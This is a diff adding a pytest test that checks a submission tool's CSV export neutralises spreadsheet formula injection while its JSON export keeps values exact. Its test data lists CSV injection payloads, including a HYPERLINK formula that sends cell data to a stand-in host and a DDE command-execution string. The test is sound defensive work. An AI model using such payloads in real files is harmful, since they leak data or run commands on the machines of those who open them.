@@ -66,6 +66,35 @@ def test_stats_and_prune(filled: Store, capsys: pytest.CaptureFixture[str]) -> N
     assert filled.count() == 4
 
 
+# What a spreadsheet would evaluate (OWASP's CSV injection list), and a cell that hides one behind a separator.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "x,=1+1;=2\t=3\n=4", "\"=1+1\"", "'=already quoted"]
+
+
+def test_an_export_opens_in_a_spreadsheet_as_data_and_the_json_stays_exact(
+        filled: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Learner code and learner names that a spreadsheet would run as formulas: no cell of the CSV starts like one
+    (not even one hidden behind a separator or a line break: every cell is quoted), and the JSON export keeps them
+    exactly."""
+    made = [dataclasses.replace(record(learner=text, minutes=10 + i), code=text, exercise="hostile")
+            for i, text in enumerate(HOSTILE)]
+    for one in made:
+        filled.add(one)
+    out = tmp_path / "hostile.csv"
+    assert main(["submissions", "export", "--exercise", "hostile", "--csv", str(out)]) == 0
+    with out.open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(HOSTILE)
+    assert not [cell for row in rows for cell in [*row, *row.values()] if cell.startswith(FORMULA_STARTS)]
+    assert [(r["learner"], r["code"]) for r in rows] == [
+        ("'" + t if t.startswith(FORMULA_STARTS) else t,) * 2 for t in HOSTILE]
+    capsys.readouterr()
+    assert main(["submissions", "export", "--exercise", "hostile", "--json"]) == 0
+    exported = json.loads(capsys.readouterr().out)
+    assert [(e["learner"], e["code"]) for e in exported] == [(t, t) for t in HOSTILE]
+
+
 @pytest.mark.parametrize("args", [["submissions", "prune", "--older-than", "half a year"],
                                   ["submissions", "export", "--since", "yesterday"]])
 def test_bad_input_is_one_line(filled: Store, args: list[str], capsys: pytest.CaptureFixture[str]) -> None:
